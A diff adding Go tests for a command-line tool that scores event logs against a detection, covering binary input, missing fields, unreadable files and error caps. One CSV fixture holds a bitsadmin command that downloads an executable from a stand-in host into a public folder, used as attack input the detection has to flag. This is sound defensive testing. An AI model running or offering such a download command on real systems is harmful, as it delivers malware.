@@ -1,0 +1,143 @@
+package cli
+
+import (
+	"bytes"
+	"fmt"
+	"io"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// zeros is /dev/zero without the device: endless NUL bytes.
+type zeros struct{ read int64 }
+
+func (z *zeros) Read(p []byte) (int, error) {
+	clear(p)
+	z.read += int64(len(p))
+	return len(p), nil
+}
+
+func runScore(stdin io.Reader, args ...string) (stdout, stderr string, status int) {
+	var out, errb bytes.Buffer
+	status = Main(append([]string{"score"}, args...), Env{Stdin: stdin, Stdout: &out, Stderr: &errb})
+	return out.String(), errb.String(), status
+}
+
+// Binary input is refused after a look at its start, with how to convert
+// an event log; endless NUL bytes stop at once.
+func TestScoreRefusesBinaryInput(t *testing.T) {
+	z := &zeros{}
+	for name, tc := range map[string]struct {
+		input io.Reader
+		want  string
+	}{
+		"evtx":          {strings.NewReader("ElfFile\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x80\x00\x00\x00\x01\x00\x03\x00"), "a binary Windows event log (.evtx)"},
+		"/dev/zero":     {z, "binary input (a NUL byte at offset 0)"},
+		"random binary": {strings.NewReader("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), "binary input (a NUL byte at offset 8)"},
+		"gzip of evtx":  {bytes.NewReader(gzipped(t, []byte("ElfFile\x00rest"))), "a binary Windows event log (.evtx)"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			stdout, stderr, status := runScore(tc.input, "--mode", "hardened")
+			if status != ExitUsage || stdout != "" {
+				t.Errorf("status %d, stdout %q; want 2 and nothing", status, stdout)
+			}
+			for _, want := range []string{tc.want, "evtx_dump.py FILE.evtx > FILE.xml", "wevtutil qe FILE.evtx /lf:true /f:xml", "Get-WinEvent -Path FILE.evtx"} {
+				if !strings.Contains(stderr, want) {
+					t.Errorf("stderr lacks %q:\n%s", want, stderr)
+				}
+			}
+		})
+	}
+	if z.read > 1<<20 {
+		t.Errorf("read %d bytes of NULs before refusing", z.read)
+	}
+}
+
+// Input with events but none of the fields the detection reads is an
+// error, not a quiet "no alert".
+func TestScoreNoFieldTheDetectionReads(t *testing.T) {
+	_, stderr, status := runScore(strings.NewReader("_time,host,message\n1,h,hello\n2,h,world\n"))
+	if status != ExitUsage || !strings.Contains(stderr, "-: no event has any field the detection reads (CommandLine, ProcessCommandLine, Image)") ||
+		!strings.Contains(stderr, "-: 2 events scored, 0 alert, 0 could not be read") {
+		t.Errorf("status %d, stderr %q", status, stderr)
+	}
+	_, stderr, status = runScore(strings.NewReader("_time,host,message\n1,h,hello\n"), "--quiet")
+	if status != ExitUsage || strings.Contains(stderr, "events scored") || !strings.Contains(stderr, "no event has any field") {
+		t.Errorf("--quiet: status %d, stderr %q", status, stderr)
+	}
+}
+
+// An unreadable file makes the status 2 even when another file alerts;
+// options after the files are options; every file gets its summary line.
+func TestScoreUnreadableInputWinsOverAlerts(t *testing.T) {
+	attack := filepath.Join(realEvents, xmlFixtures[1])
+	stdout, stderr, status := runScore(nil, attack, "/no/such/file", "--mode", "hardened", "--format", "json")
+	if status != ExitUsage {
+		t.Errorf("status %d, want 2", status)
+	}
+	if !strings.Contains(stdout, `"alert":true`) || !strings.Contains(stdout, `"RiskScore":`) {
+		t.Errorf("the readable file was not scored in hardened mode as JSON: %q", stdout)
+	}
+	for _, want := range []string{"/no/such/file: no such file", attack + ": 2 events scored, 1 alert, 0 could not be read"} {
+		if !strings.Contains(stderr, want) {
+			t.Errorf("stderr lacks %q:\n%s", want, stderr)
+		}
+	}
+	// "--" ends the options: a file may be named like one.
+	if _, stderr, status := runScore(nil, "--", "--mode"); status != ExitUsage || !strings.Contains(stderr, "open --mode") {
+		t.Errorf("-- --mode: status %d, stderr %q", status, stderr)
+	}
+}
+
+// Past the first 20 bad events of a file the errors are counted, not
+// printed; the good events are still scored.
+func TestScoreErrorsPastTwentyAreCounted(t *testing.T) {
+	good := fixtureFileLines(t, xmlFixtures[1])
+	var input bytes.Buffer
+	for i := range 50 {
+		fmt.Fprintf(&input, "<Event><System>%d</Event>\n", i)
+	}
+	input.Write(bytes.Join(good, []byte("\n")))
+	_, stderr, status := runScore(&input, "--mode", "hardened", "--format", "csv")
+	if status != ExitAlert {
+		t.Errorf("status %d, want 1 (alerts; bad events do not hide them)", status)
+	}
+	if n := strings.Count(stderr, "closed by </Event>"); n != maxErrorsShown {
+		t.Errorf("%d errors printed, want %d", n, maxErrorsShown)
+	}
+	for _, want := range []string{"-: 30 more events could not be read (not shown)", "-: 2 events scored, 1 alert, 50 could not be read"} {
+		if !strings.Contains(stderr, want) {
+			t.Errorf("stderr lacks %q:\n%s", want, stderr)
+		}
+	}
+}
+
+// A CSV record over the cap is reported and the records after it are
+// scored.
+func TestScoreOversizedCSVRecord(t *testing.T) {
+	defer func(saved int) { maxEvent = saved }(maxEvent)
+	maxEvent = 1 << 20
+	var input bytes.Buffer
+	input.WriteString("_time,host,CommandLine,Image\n1,h,\"")
+	input.Write(bytes.Repeat([]byte("A"), maxEvent+64<<10)) // the cap counts from what the CSV reader had not yet buffered
+	input.WriteString("\",x.exe\n2,h,bitsadmin /transfer j https://evil.example/a.exe C:\\Users\\Public\\a.exe,C:\\Windows\\System32\\bitsadmin.exe\n")
+	stdout, stderr, status := runScore(&input, "--format", "csv")
+	if status != ExitAlert || !strings.Contains(stderr, "-:2: event larger than 64 MiB") || !strings.Contains(stdout, "bitsadmin.exe") {
+		t.Errorf("status %d, stderr %q, stdout %q", status, stderr, stdout)
+	}
+}
+
+// Files are closed as they are read: more files than descriptors allowed.
+func TestScoreClosesEachFile(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "one.csv")
+	os.WriteFile(path, []byte("_time,host,CommandLine\n1,h,notepad.exe\n"), 0o644)
+	args := []string{"--quiet"}
+	for range 1200 {
+		args = append(args, path)
+	}
+	if _, stderr, status := runScore(nil, args...); status != ExitOK || stderr != "" {
+		t.Errorf("status %d, stderr %q", status, stderr)
+	}
+}
